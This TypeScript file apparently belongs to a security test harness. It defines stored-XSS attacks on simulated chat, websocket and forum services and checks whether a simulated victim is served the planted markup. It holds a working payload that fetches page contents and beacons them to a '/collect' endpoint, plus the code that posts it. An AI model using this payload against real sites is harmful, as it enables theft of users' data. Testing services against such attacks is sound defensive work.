/** Stored XSS: active markup goes into a message or a post, and counts when the service serves it to somebody else. */
import { activeMarkup } from '../mutate/markup.ts';
import type { Service } from '../person.ts';
import type { Attack, Attacker } from './scene.ts';

const STEAL = "top.fetch('/').then(r=>r.text()).then(t=>top.navigator.sendBeacon('/collect',t))";

async function plant(
  attacker: Attacker,
  service: Service,
  leave: (payload: string) => Promise<unknown>,
  shownAt: number,
) {
  for (let i = 0; i < 4; i++) {
    const payload = activeMarkup(STEAL, attacker.random);
    await leave(payload);
    const victim = attacker.scene.victims[service];
    const page = service === 'chat' ? victim.look('/wall', { group: shownAt }) : victim.look('/forum', { id: shownAt });
    const { isGenuine, text } = await page;
    if (isGenuine && text.includes(payload)) attacker.attempt.gotData = true;
  }
}

export const MARKUP_ATTACKS: readonly Attack[] = [
  {
    name: 'xss-chat',
    isCovered: true,
    async run(attacker) {
      const person = await attacker.member('chat');
      await plant(attacker, 'chat', (text) => attacker.postJson(person, '/api/messages', { group: 1, text }), 1);
    },
  },
  {
    name: 'xss-websocket',
    isCovered: true,
    async run(attacker) {
      const person = await attacker.member('chat');
      await plant(attacker, 'chat', (text) => attacker.say(person, { type: 'message', ref: 1, group: 1, text }), 1);
    },
  },
  {
    name: 'xss-forum',
    isCovered: true,
    async run(attacker) {
      const person = await attacker.member('campus');
      const id = 1 + attacker.random.below(6);
      await plant(attacker, 'campus', (text) => attacker.postForm(person, '/forum', { text }, { id }), id);
    },
  },
];
